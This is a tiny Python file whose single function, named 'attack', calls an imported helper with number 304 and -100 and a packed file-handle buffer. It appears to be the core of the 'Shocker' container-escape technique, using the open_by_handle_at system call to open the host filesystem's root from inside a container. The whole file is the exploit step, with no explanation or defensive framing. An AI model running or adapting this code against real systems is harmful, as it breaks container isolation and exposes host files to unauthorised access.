import ctypes
import struct

from means import call


def attack():
    handle = ctypes.create_string_buffer(struct.pack("IiQ", 8, 1, 2), 136)
    return call(304, -100, handle, 0)
